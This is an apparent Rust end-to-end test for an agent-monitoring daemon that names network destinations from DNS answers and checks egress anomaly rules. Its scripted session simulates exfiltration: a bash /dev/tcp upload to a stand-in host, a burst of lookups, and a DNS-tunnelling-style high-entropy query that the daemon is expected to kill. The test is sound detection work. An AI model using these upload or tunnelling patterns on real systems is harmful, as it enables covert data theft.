//! Names for destinations and egress anomalies, end to end. The test makes a network
//! namespace of its own with a DNS server (a responder written here with
//! hickory-proto) and a TCP listener on a non-loopback address, and points the
//! namespace's resolv.conf at the server. The session (`ip netns exec` inside it)
//! resolves `upload.guard-test.example` with `getent`, connects to it and uploads:
//! the `dns` answer, the connect, the flow and the session report name the host.
//! Each anomaly rule of the test's policy fires: a first-time destination, bytes
//! over a window, a burst of queries, and a long high-entropy name, whose rule
//! kills the session.

use std::ffi::OsStr;
use std::fs;
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use guard_tests::{
    Daemon, Event, EventsTo, FakeAgent, NetNs, TempDir, accept_and_read, dump, fake_agent_exe,
    session_of, write_policy,
};
use hickory_proto::{
    op::{Message, MessageType, OpCode, ResponseCode},
    rr::{RData, Record, RecordType, rdata},
};
use serde_json::Value;

const HOST: &str = "upload.guard-test.example";
/// The namespace's own address (on its `lo`, outside 127/8): not loopback, so the
/// destination is classed by its name.
const ADDR: Ipv4Addr = Ipv4Addr::new(10, 213, 7, 1);
const UPLOAD: usize = 200_000;

/// A network namespace with [`ADDR`] on its loopback and a resolv.conf naming it
/// (`ip netns exec` bind-mounts `/etc/netns/NAME/resolv.conf`), removed on drop.
struct DnsNs {
    ns: NetNs,
}

impl DnsNs {
    fn new() -> Self {
        let ns = Self { ns: NetNs::new() };
        // On the namespace's loopback device (no dummy or veth module needed):
        // the address itself is not a loopback one.
        let addr = format!("{ADDR}/32");
        let out = Command::new("ip")
            .args(["-n", ns.ns.name(), "addr", "add", &addr, "dev", "lo"])
            .output()
            .expect("run ip");
        assert!(
            out.status.success(),
            "ip addr add: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let etc = ns.etc();
        fs::create_dir_all(&etc).expect("mkdir /etc/netns/NS");
        fs::write(
            etc.join("resolv.conf"),
            format!("nameserver {ADDR}\noptions attempts:1 timeout:2\n"),
        )
        .expect("write resolv.conf");
        ns
    }

    fn etc(&self) -> std::path::PathBuf {
        std::path::Path::new("/etc/netns").join(self.ns.name())
    }
}

impl Drop for DnsNs {
    fn drop(&mut self) {
        // Before the namespace itself (the field drops after this).
        let _ = fs::remove_dir_all(self.etc());
    }
}

/// The test's DNS server: `HOST` A → [`ADDR`], every other name NXDOMAIN, AAAA empty.
fn dns_server(sock: UdpSocket, stop: Arc<AtomicBool>) -> thread::JoinHandle<usize> {
    thread::spawn(move || {
        sock.set_read_timeout(Some(Duration::from_millis(200)))
            .expect("timeout");
        let mut buf = [0u8; 1500];
        let mut answered = 0;
        while !stop.load(Ordering::Relaxed) {
            let Ok((n, from)) = sock.recv_from(&mut buf) else {
                continue;
            };
            let Ok(q) = Message::from_vec(&buf[..n]) else {
                continue;
            };
            let mut m = Message::new(q.metadata.id, MessageType::Response, OpCode::Query);
            m.metadata.recursion_desired = q.metadata.recursion_desired;
            m.metadata.recursion_available = true;
            let Some(query) = q.queries.first().cloned() else {
                continue;
            };
            let name = query.name.to_ascii();
            m.add_query(query.clone());
            if name.trim_end_matches('.').eq_ignore_ascii_case(HOST) {
                if query.query_type == RecordType::A {
                    m.add_answer(Record::from_rdata(
                        query.name.clone(),
                        300,
                        RData::A(rdata::A(ADDR)),
                    ));
                }
            } else {
                m.metadata.response_code = ResponseCode::NXDomain;
            }
            if let Ok(bytes) = m.to_vec() {
                let _ = sock.send_to(&bytes, from);
                answered += 1;
            }
        }
        answered
    })
}

fn violation<'a>(events: &'a [Event], session: &str, rule: &str) -> &'a Event {
    events
        .iter()
        .find(|e| e.session() == Some(session) && e.str("rule") == Some(rule))
        .unwrap_or_else(|| panic!("no {rule} violation\n{}", dump(events)))
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scripted session in a network namespace, then its answer, flow and each anomaly checked from its events"
)]
fn resolved_names_name_flows_and_anomalies_fire() {
    let dir = TempDir::new("guard-e2e-dns");
    let agent = FakeAgent::install(fake_agent_exe!());
    let ns = DnsNs::new();
    let stop = Arc::new(AtomicBool::new(false));
    let (dns, listener) = ns.ns.enter(|| {
        (
            UdpSocket::bind((ADDR, 53)).expect("bind the DNS server"),
            TcpListener::bind((ADDR, 0)).expect("bind the upload listener"),
        )
    });
    let port = listener.local_addr().expect("addr").port();
    let server = dns_server(dns, Arc::clone(&stop));

    let policy = dir.join("guard.toml");
    write_policy(
        &policy,
        &format!(
            r#"mode = "enforce"

[agents]
names = ["{agent}"]

[[anomaly]]
rule = "new-destination"
class = "other"
action = "alert"

[[anomaly]]
rule = "bytes"
class = "other"
bytes = "64KiB"
window = "30s"
action = "alert"

[[anomaly]]
rule = "dns-volume"
queries = 30
window = "30s"
action = "log"

[[anomaly]]
rule = "dns-entropy"
action = "kill"
target = "session"
"#,
            agent = agent.name(),
        ),
    );
    let args = [OsStr::new("--policy"), policy.as_os_str()];
    let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);

    // Each step in the namespace: resolve, upload (bash's /dev/tcp resolves the
    // name too), a burst of lookups (each an A and an AAAA query), then a
    // tunnelling-like name, after which the session should not get to sleep out
    // (`exec`: the shell's pid, known to the daemon, is the sleep; a process forked
    // after the query but before the daemon read it could outlive the kill).
    let tunnel = "k7q2xw9m4tzr8vn3pbh6yj5cfd1lgs0aeuoi7qk2m9x4w8z3r6t5v1n0.guard-test.example";
    let script = format!(
        "getent hosts {HOST} || exit 3; \
         head -c {UPLOAD} /dev/zero > /dev/tcp/{HOST}/{port} || exit 4; \
         for i in $(seq 40); do getent hosts n$i.guard-test.example; done; \
         getent hosts {tunnel}; exec sleep 20"
    );
    let run = agent.spawn(&[
        "run",
        "ip",
        "netns",
        "exec",
        ns.ns.name(),
        "bash",
        "-c",
        &script,
    ]);
    let root = run.pid();
    let finished = run.finish();
    stop.store(true, Ordering::Relaxed);
    // The upload's connection waits in the backlog (a deadline, not a hang, if the
    // session never made it).
    let uploaded = accept_and_read(&listener).len();
    assert_eq!(uploaded, UPLOAD, "the upload reached the listener");
    assert!(server.join().expect("server thread") > 0);
    assert_eq!(
        finished.signal(),
        Some(libc::SIGKILL),
        "the dns-entropy rule (kill, session) did not kill the agent\n{}\n{}",
        finished.stdout,
        finished.stderr
    );

    let events = daemon.wait_for("the session's upload flow and the entropy kill", |evs| {
        evs.iter().any(|e| {
            e.kind() == "flow" && e.str("reason") == Some("close") && e.str("host") == Some(HOST)
        }) && evs
            .iter()
            .any(|e| e.str("rule") == Some("anomaly.dns-entropy"))
    });
    let session = session_of(&events, root);
    let mine: Vec<&Event> = events
        .iter()
        .filter(|e| e.session() == Some(session.as_str()))
        .collect();

    // The answer is logged with its question and answers; it names later events.
    let answer = mine
        .iter()
        .find(|e| e.kind() == "dns" && e.str("name") == Some(HOST) && e.str("qtype") == Some("A"))
        .unwrap_or_else(|| panic!("no dns answer for {HOST}\n{}", dump(&events)));
    assert_eq!(answer.str("direction"), Some("answer"));
    assert_eq!(answer.str("server"), Some(ADDR.to_string().as_str()));
    let answers = answer
        .get("answers")
        .and_then(Value::as_array)
        .expect("answers");
    assert!(
        answers.iter().any(|a| a["data"] == ADDR.to_string()),
        "{answers:?}"
    );
    let connect = mine
        .iter()
        .find(|e| e.kind() == "connect" && e.int("port") == Some(i64::from(port)))
        .unwrap_or_else(|| panic!("no connect to the upload port\n{}", dump(&events)));
    assert_eq!(connect.str("host"), Some(HOST), "{}", dump(&events));
    assert_eq!(connect.str("host_source"), Some("dns"));
    let flow = mine
        .iter()
        .find(|e| {
            e.kind() == "flow"
                && e.int("port") == Some(i64::from(port))
                && e.str("reason") == Some("close")
        })
        .expect("the upload's final flow record");
    assert_eq!(flow.str("host"), Some(HOST));
    assert_eq!(flow.str("dest_class"), Some("other"));
    // Over the bytes rule's threshold (the final record comes at the socket's
    // release, which may be before the kernel sent all of its queue).
    assert!(
        flow.int("bytes_out").expect("bytes_out") > 64 << 10,
        "{}",
        dump(&events)
    );

    // Each anomaly: its rule, action and outcome.
    let first = violation(&events, &session, "anomaly.new-destination");
    assert_eq!(first.kind(), "connect");
    assert_eq!(
        (first.str("action"), first.str("outcome")),
        (Some("alert"), Some("alerted"))
    );
    assert!(first.str("anomaly").expect("anomaly").contains(HOST));
    let bytes = violation(&events, &session, "anomaly.bytes");
    assert_eq!(bytes.kind(), "flow");
    assert_eq!(bytes.str("host"), Some(HOST));
    let volume = violation(&events, &session, "anomaly.dns-volume");
    assert_eq!(
        (volume.kind(), volume.str("direction")),
        ("dns", Some("query"))
    );
    assert_eq!(volume.str("outcome"), Some("logged"));
    let entropy = violation(&events, &session, "anomaly.dns-entropy");
    // The name that carries data keeps only its domain in the event.
    let cut = format!(
        "…({} characters cut).guard-test.example",
        tunnel.len() - ".guard-test.example".len()
    );
    assert_eq!(entropy.str("name"), Some(cut.as_str()), "{entropy}");
    assert_eq!(
        (entropy.str("action"), entropy.str("outcome")),
        (Some("kill"), Some("killed"))
    );
    // Plain queries are not logged one by one.
    let queries = mine
        .iter()
        .filter(|e| e.kind() == "dns" && e.str("direction") == Some("query"))
        .count();
    assert!(queries <= 3, "{queries} queries logged\n{}", dump(&events));

    // The report names the destination and lists the violations.
    let report = daemon.report(&session);
    let text = report.to_string();
    assert!(
        text.contains(HOST),
        "the report does not name {HOST}: {report:#}"
    );
    for rule in [
        "anomaly.new-destination",
        "anomaly.bytes",
        "anomaly.dns-entropy",
    ] {
        assert!(text.contains(rule), "the report misses {rule}: {report:#}");
    }
    daemon.stop_ok();
}
